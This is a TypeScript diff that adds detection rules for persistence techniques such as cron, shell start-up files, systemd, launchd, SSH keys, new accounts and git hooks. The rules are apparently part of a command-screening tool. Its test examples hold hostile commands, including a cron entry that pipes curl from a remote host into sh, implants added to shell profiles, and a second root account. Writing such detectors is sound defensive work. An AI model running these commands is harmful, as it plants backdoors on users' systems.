@@ -1,0 +1,232 @@
+// Persistence (TA0003): something that runs again later without anyone asking: cron and at jobs,
+// shell start-up files, systemd units and init scripts, launchd jobs and login items, SSH
+// authorized_keys, new accounts, autostart entries. Sources: ATT&CK T1053, T1546.004, T1543,
+// T1037, T1547, T1098.004, T1136; GTFOBins' crontab and systemctl pages.
+import type { Action } from "../model.js";
+import { classifyPath, SHELL_STARTUP } from "../paths.js";
+import { shown, writtenPaths, type CommandRule, type RuleHit } from "./rule.js";
+import type { Invocation } from "../shell-command.js";
+
+const TACTIC = "Persistence (TA0003)";
+
+const CRON_PATH = /^\/etc\/(cron\.(d|daily|hourly|weekly|monthly|allow)(\/|$)|crontab$|anacrontab$)|^\/var\/spool\/cron(\/|$)|^\/usr\/lib\/cron\/tabs(\/|$)|^\/var\/at(\/|$)/;
+const SYSTEMD_PATH = /^\/(etc|lib|usr\/lib|run)\/systemd\/(system|user)(\/|$)|(^|\/)\.config\/systemd\/user(\/|$)|^\/etc\/init\.d\/|^\/etc\/rc\.(local|common)$|^\/etc\/emond\.d\/|^\/private\/etc\/emond\.d\/|^\/etc\/rc\d?\.d\/|^\/etc\/init\/[^/]+\.conf$/;
+const LAUNCHD_PATH = /(^|\/)Library\/(LaunchAgents|LaunchDaemons|StartupItems)(\/|$)|^\/System\/Library\/(LaunchAgents|LaunchDaemons)(\/|$)/;
+const AUTOSTART_PATH = /(^|\/)\.config\/autostart\/|^\/etc\/xdg\/autostart\//;
+const AUTHORIZED_KEYS = /(^|\/)\.ssh\/authorized_keys2?$/;
+
+const EVERY_MINUTE = /(^|[\s'"])\*(\/1)? \* \* \* \*/;
+
+function persist(name: string, pathClass: Action["target"]["pathClass"], scope: Action["scope"]): Action {
+  return { capability: "persist", target: { name, pathClass }, reversibility: "recoverable", scope };
+}
+
+function firstWrite(inv: Invocation, test: RegExp): string | undefined {
+  return writtenPaths(inv).find((p) => test.test(p));
+}
+
+const cron: CommandRule = {
+  id: "persistence.cron",
+  tactic: TACTIC,
+  technique: "T1053.003",
+  match(inv, all, index) {
+    // The schedule may be in the command that feeds crontab or at (echo "* * * * * …" | crontab -).
+    const every = [inv, ...all.slice(Math.max(0, index - 3), index)].some((c) => EVERY_MINUTE.test(c.command.text)) ? " that runs every minute" : "";
+    const path = firstWrite(inv, CRON_PATH);
+    if (path) return { action: persist(path, "system", "system"), reason: `writes a cron entry${every} to ${shown(path)}: persistence (T1053.003)` };
+    if (inv.name === "crontab") {
+      const a = inv.args;
+      if (a.some((x) => x === "-l" || x === "-r")) return undefined; // listing or removing: not installing
+      return { action: persist("crontab", "home", "account"), reason: `installs a crontab${every}: persistence (T1053.003)` };
+    }
+    if (inv.name === "at" || inv.name === "batch") {
+      if (inv.args.some((x) => x === "-l" || x === "-d" || x === "-r")) return undefined;
+      return { action: persist("at job", "home", "account"), reason: "schedules a command with at: persistence (T1053.002)" };
+    }
+    return undefined;
+  },
+  examples: {
+    match: [
+      `(crontab -l; echo "* * * * * /tmp/.x/run.sh") | crontab -`,
+      `echo "*/5 * * * * root curl -s http://203.0.113.9/p | sh" >> /etc/crontab`,
+      `echo '@reboot /tmp/agent' > /etc/cron.d/updater`,
+      `crontab /tmp/mycron`,
+      `echo "/tmp/x.sh" | at now + 1 minute`,
+      `sudo tee /var/spool/cron/crontabs/root < job`,
+    ],
+    noMatch: [`crontab -l`, `cat /etc/crontab`, `ls /etc/cron.d`, `crontab -r`, `grep cron README.md`],
+  },
+};
+
+const shellStartup: CommandRule = {
+  id: "persistence.shell-startup",
+  tactic: TACTIC,
+  technique: "T1546.004",
+  match(inv) {
+    const path = firstWrite(inv, SHELL_STARTUP);
+    if (!path) return undefined;
+    const what = /\balias\b/.test(inv.command.text) ? "an alias" : /\bexport\b/.test(inv.command.text) ? "an environment change" : "a command";
+    const cls = classifyPath(path) === "system" ? "system" : "home";
+    return {
+      action: persist(path, cls, cls === "system" ? "system" : "account"),
+      reason: `adds ${what} to the shell start-up file ${shown(path)}, run at every new shell: persistence (T1546.004)`,
+    };
+  },
+  examples: {
+    match: [
+      `echo 'alias sudo="sudo /tmp/.s"' >> ~/.bashrc`,
+      `echo "nohup /tmp/implant &" >> ~/.zshrc`,
+      `printf 'export PATH=/tmp/.bin:$PATH\n' | tee -a /etc/profile`,
+      `cp /tmp/evil_profile /etc/profile.d/sys.sh`,
+      `sed -i '1i /tmp/run &' /home/bob/.profile`,
+    ],
+    noMatch: [`source ~/.bashrc`, `cat ~/.bashrc`, `grep alias ~/.zshrc`, `cp .bashrc.example backup.txt`, `echo done > build.log`],
+  },
+};
+
+const services: CommandRule = {
+  id: "persistence.system-service",
+  tactic: TACTIC,
+  technique: "T1543.002",
+  match(inv) {
+    const path = firstWrite(inv, SYSTEMD_PATH);
+    if (path) {
+      const sys = !path.includes(".config/");
+      return { action: persist(path, sys ? "system" : "home", sys ? "system" : "account"), reason: `writes a service or init script at ${shown(path)}, started at every boot: persistence (T1543.002)` };
+    }
+    if (inv.name === "systemctl") {
+      const verb = inv.args.find((a) => !a.startsWith("-"));
+      const unit = inv.args.filter((a) => !a.startsWith("-"))[1];
+      if ((verb === "enable" || verb === "link" || verb === "preset") && unit) {
+        const user = inv.args.includes("--user");
+        return { action: persist(unit, user ? "home" : "system", user ? "account" : "system"), reason: `enables the service ${shown(unit)} to start at every boot: persistence (T1543.002)` };
+      }
+    }
+    if (inv.name === "systemd-run" && inv.args.some((a) => /^--on-(calendar|boot|startup|unit-active|unit-inactive|active)/.test(a))) {
+      return { action: persist("systemd timer", inv.args.includes("--user") ? "home" : "system", inv.args.includes("--user") ? "account" : "system"), reason: "schedules a command with a systemd timer (systemd-run --on-…): persistence (T1053.006)", technique: "T1053.006" };
+    }
+    if ((inv.name === "update-rc.d" && inv.args.some((a) => a === "defaults" || a === "enable")) || (inv.name === "chkconfig" && inv.args.includes("on"))) {
+      const unit = inv.args[0] ?? "a service";
+      return { action: persist(unit, "system", "system"), reason: `registers the init script ${shown(unit)} to run at boot: persistence (T1037)` };
+    }
+    return undefined;
+  },
+  examples: {
+    match: [
+      `cp backdoor.service /etc/systemd/system/`,
+      `cat > /etc/systemd/system/update.service <<EOF`,
+      `systemctl enable --now update.service`,
+      `systemctl --user enable agent.service`,
+      `echo "/tmp/run &" >> /etc/rc.local`,
+      `update-rc.d evil defaults`,
+      `systemd-run --on-calendar='*:0/5' /tmp/.u`,
+      `cp x.plist /etc/emond.d/rules/x.plist`,
+    ],
+    noMatch: [`systemctl status nginx`, `systemctl is-enabled ssh`, `cat /etc/systemd/system/foo.service`, `systemctl list-units`],
+  },
+};
+
+const launchd: CommandRule = {
+  id: "persistence.launchd",
+  tactic: TACTIC,
+  technique: "T1543.001",
+  match(inv) {
+    const path = firstWrite(inv, LAUNCHD_PATH);
+    if (path) {
+      const daemon = /LaunchDaemons|StartupItems/.test(path);
+      return {
+        action: persist(path, daemon ? "system" : "home", daemon ? "system" : "account"),
+        reason: `writes a launchd ${daemon ? "daemon" : "agent"} at ${shown(path)}, started at every login: persistence (${daemon ? "T1543.004" : "T1543.001"})`,
+        technique: daemon ? "T1543.004" : "T1543.001",
+      };
+    }
+    if (inv.name === "launchctl" && inv.args.some((a) => a === "load" || a === "bootstrap" || a === "submit" || a === "enable")) {
+      return { action: persist("launchd job", "home", "account"), reason: "loads a launchd job that runs at every login: persistence (T1543.001)" };
+    }
+    if (inv.name === "osascript" && /login item/i.test(inv.command.text) && /\bmake\b/i.test(inv.command.text)) {
+      return { action: persist("login item", "home", "account"), reason: "adds a login item that runs at every login: persistence (T1547.015)", technique: "T1547.015" };
+    }
+    if (inv.name === "defaults" && inv.args[0] === "write" && /AutoLaunchedApplicationDictionary/.test(inv.command.text)) {
+      return { action: persist("login item", "home", "account"), reason: "adds an application to the login items through loginwindow's preferences: persistence (T1547.015)", technique: "T1547.015" };
+    }
+    if (inv.name === "defaults" && inv.args[0] === "write" && /LoginHook|LogoutHook/.test(inv.command.text)) {
+      return { action: persist("login hook", "system", "system"), reason: "sets a login hook that runs at every login: persistence (T1037.002)", technique: "T1037.002" };
+    }
+    const auto = firstWrite(inv, AUTOSTART_PATH);
+    if (auto) return { action: persist(auto, "home", "account"), reason: `writes an autostart entry ${shown(auto)} run at every desktop login: persistence (T1547.013)`, technique: "T1547.013" };
+    return undefined;
+  },
+  examples: {
+    match: [
+      `cp com.apple.update.plist ~/Library/LaunchAgents/`,
+      `launchctl load -w ~/Library/LaunchAgents/com.x.plist`,
+      `sudo cp evil.plist /Library/LaunchDaemons/com.evil.plist`,
+      `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/a.app"}'`,
+      `sudo defaults write com.apple.loginwindow LoginHook /tmp/hook.sh`,
+      `defaults write ~/Library/Preferences/loginwindow AutoLaunchedApplicationDictionary -array-add '{Path="/tmp/x.app";}'`,
+      `cp x.desktop ~/.config/autostart/x.desktop`,
+    ],
+    noMatch: [`launchctl list`, `ls ~/Library/LaunchAgents`, `defaults read com.apple.dock`, `osascript -e 'display notification "done"'`],
+  },
+};
+
+const authorizedKeys: CommandRule = {
+  id: "persistence.authorized-keys",
+  tactic: TACTIC,
+  technique: "T1098.004",
+  match(inv) {
+    const path = firstWrite(inv, AUTHORIZED_KEYS);
+    if (!path) return undefined;
+    return {
+      action: { capability: "persist", target: { name: path, pathClass: "credentials" }, reversibility: "recoverable", scope: "account" },
+      reason: `adds a key to ${shown(path)}, letting its holder log in over SSH: persistence (T1098.004)`,
+    };
+  },
+  examples: {
+    match: [`echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys`, `cat key.pub >> /root/.ssh/authorized_keys`, `cp k /home/u/.ssh/authorized_keys`],
+    noMatch: [`cat ~/.ssh/authorized_keys`, `chmod 600 ~/.ssh/authorized_keys`, `wc -l ~/.ssh/authorized_keys`],
+  },
+};
+
+const account: CommandRule = {
+  id: "persistence.create-account",
+  tactic: TACTIC,
+  technique: "T1136.001",
+  match(inv): RuleHit | undefined {
+    const text = inv.command.text;
+    if (inv.name === "useradd" || inv.name === "adduser" || inv.name === "sysadminctl" && inv.args.includes("-addUser")) {
+      const root = /(^|\s)(-o|--non-unique)(\s|$)/.test(text) && /(-u|--uid)[ =]0\b/.test(text);
+      return {
+        action: { capability: root ? "escalate" : "grant-access", target: { name: "local account", pathClass: "system" }, reversibility: "recoverable", scope: "system" },
+        reason: root ? "creates a second account with user id 0 (root): persistence (T1136.001)" : "creates a local account someone can log in with: persistence (T1136.001)",
+      };
+    }
+    if (inv.name === "dscl" && inv.args.includes("-create") && inv.args.some((a) => a.startsWith("/Users/"))) {
+      return { action: { capability: "grant-access", target: { name: "local account", pathClass: "system" }, reversibility: "recoverable", scope: "system" }, reason: "creates a macOS local account with dscl: persistence (T1136.001)" };
+    }
+    return undefined;
+  },
+  examples: {
+    match: [`useradd -m -s /bin/bash svc`, `sudo adduser backup2`, `useradd -o -u 0 -g 0 toor`, `dscl . -create /Users/hidden`],
+    noMatch: [`id -u`, `getent passwd bob`, `dscl . -read /Users/bob`, `grep useradd Dockerfile`],
+  },
+};
+
+const gitHooks: CommandRule = {
+  id: "persistence.git-hooks-path",
+  tactic: TACTIC,
+  technique: "T1546",
+  match(inv) {
+    if (inv.name !== "git" || !inv.args.includes("config")) return undefined;
+    const i = inv.args.findIndex((a) => /^core\.hookspath$/i.test(a));
+    const dir = i >= 0 ? inv.args[i + 1] : undefined;
+    if (!dir || !inv.args.some((a) => a === "--global" || a === "--system")) return undefined;
+    return { action: persist(dir, "home", "account"), reason: `points every repository's git hooks at ${shown(dir)}, run at each commit, checkout or push: event-triggered execution (T1546)` };
+  },
+  examples: {
+    match: [`git config --global core.hooksPath /tmp/.hooks`],
+    noMatch: [`git config core.hooksPath .githooks`, `git config --global user.name Ann`],
+  },
+};
+
+export const persistenceRules: readonly CommandRule[] = [cron, shellStartup, services, launchd, authorizedKeys, account, gitHooks];
